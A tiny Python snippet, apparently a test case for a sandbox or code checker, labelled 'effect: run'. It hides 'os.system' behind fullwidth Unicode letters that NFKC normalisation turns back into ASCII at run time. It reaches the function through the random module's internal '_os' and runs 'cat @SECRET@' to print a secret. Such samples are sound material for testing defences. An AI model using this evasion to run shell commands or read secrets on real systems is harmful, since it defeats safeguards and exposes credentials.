# unicodedata normalises at run time what the source spells otherwise.
# effect: run
import random
import unicodedata
name = unicodedata.normalize("NFKC", "＿os")
getattr(getattr(random, name), unicodedata.normalize("NFKC", "ｓｙｓｔｅｍ"))("cat @SECRET@")
